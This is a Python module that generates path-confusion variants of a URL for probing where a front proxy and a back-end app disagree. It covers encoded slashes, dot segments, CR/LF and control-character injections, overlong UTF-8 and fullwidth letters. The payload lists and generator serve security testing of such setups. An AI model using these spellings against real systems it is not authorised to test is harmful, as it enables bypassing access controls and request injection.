"""Spellings of a path that a proxy and an app may take for different ones, and what to ask with them.

No spelling has a blank or a line's end in it: each is one word of a request line.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

BEFORE = ["", "/", "//", "/.", "/x/..", "/%2e", "/x/%2e%2e", "/x/..%2f..", "/%2f", "/%5c", "/;", "/%0a", "/x%0a/.."]
BEFORE += ["http://front", "HTTP://other", "http://front/", "http://front/x/..", "http://front:80/%0a/.."]
AFTER = ["", "/", "//", "/.", "/..", "/x", "//x", "/x/..", "/x/../x", "%2f", "%2fx", "%2F%2e", "%5c", "\\", ".", "%2e"]
AFTER += [
    ";",
    ";x",
    ";/x",
    "?",
    "?/..",
    "?%0a",
    "%3f",
    "#",
    "#x",
    "#/..",
    "%23",
    "%20",
    "+",
    "*",
    "%2a",
    "%250a",
    "%25",
]
AFTER += [
    "%c2%85",
    "%e2%80%a8",
    "%c0%8a",
    "%e0%80%8a",
    "%c0%af",
    "%u000a",
    "%0",
    "%ff",
    "/%0a",
    "/x%0a",
    "%0a/",
    "%0ax",
]
AFTER += ["%0d%0a", "%0a%0a", "%0a?x", "%0a#x", "%0A.", "/..%0a", "\xa0", "\x85"]


def names(word: str) -> list[str]:
    """One segment in other letters."""
    encoded = [f"%{ord(letter):02x}" for letter in word]
    full = "".join(f"%ef%bc%{ord(letter) + 0x20:02x}" for letter in word)
    return [
        word,
        word.upper(),
        encoded[0] + word[1:],
        word[:-1] + encoded[-1].upper(),
        "".join(encoded),
        f"%25{encoded[0][1:]}{word[1:]}",
        f"%c1%{ord(word[0]) & 0x3F | 0x80:02x}{word[1:]}",
        full,
    ]


def spellings(path: str, drawn: int = 300) -> list[str]:
    """Each once: every two of the above together, each control character behind it, and as many as `drawn` of more."""
    return list(dict.fromkeys([*_combined(path), *_drawn(path, drawn)]))


def _combined(path: str) -> Iterator[str]:
    above, _slash, last = path.rpartition("/")
    for before, after in itertools.product(BEFORE, AFTER):
        yield f"{before}{path}{after}"
    for name, after in itertools.product(names(last), AFTER):
        yield f"{above}/{name}{after}"
    for before, name in itertools.product(BEFORE, names(last)):
        yield f"{before}{above}/{name}"
    for code in [*range(0x20), 0x7F]:
        for form in (f"%{code:02x}", f"%{code:02X}", f"/%{code:02x}", f"%{code:02x}/"):
            yield path + form
    for slash in ("//", "%2f", "/./", "/x/../"):
        yield path.replace("/", slash)
        yield "/" + path[1:].replace("/", slash)


def _drawn(path: str, number: int) -> Iterator[str]:
    """The same ones in each run."""
    chance = random.Random(path)
    between = ["/"] * 6 + ["//", "/./", "/x/../", "%2f", "/%2e/", "/%0a/../", "\\", ";/", "/;/../"]
    for _ in range(number):
        text = chance.choice(["", "", "http://front"])
        for segment in path[1:].split("/"):
            text += chance.choice(between) + chance.choice(names(segment)[:5])
        yield text + "".join(chance.choice(AFTER) for _ in range(chance.choice([0, 1, 1, 2])))
